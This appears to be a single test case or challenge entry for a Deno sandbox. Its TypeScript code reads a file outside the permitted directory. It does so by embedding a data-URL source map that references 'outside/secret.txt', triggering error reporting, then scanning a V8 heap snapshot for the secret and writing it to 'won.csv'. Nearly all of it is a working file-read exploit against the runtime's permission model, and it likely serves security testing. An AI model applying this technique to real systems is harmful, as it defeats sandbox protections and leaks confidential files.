import { getHeapSnapshot } from "node:v8";

export async function run(_input: string, output: string, { world }: { world: string }) {
  const map = { version: 3, sources: [`file://${world}/outside/secret.txt`], names: [], mappings: "AAAA" };
  const code = `export function fail() { throw new Error("mapped"); }
//# sourceMappingURL=data:application/json;base64,${btoa(JSON.stringify(map))}`;
  const { fail } = await import(`data:text/javascript,${encodeURIComponent(code)}`);
  const heap = Promise.withResolvers<AsyncIterable<Uint8Array>>();
  addEventListener("error", (event) => {
    event.preventDefault();
    try {
      heap.resolve(getHeapSnapshot());
    } catch (error) {
      heap.reject(error);
    }
  });
  try {
    fail();
  } catch (error) {
    reportError(error);
  }
  let text = "";
  for await (const chunk of await heap.promise) text += new TextDecoder().decode(chunk);
  const stolen = /"the-secret-of-[a-z-]*"/.exec(text);
  if (stolen) Deno.writeTextFileSync(`${output}/won.csv`, stolen[0]);
}
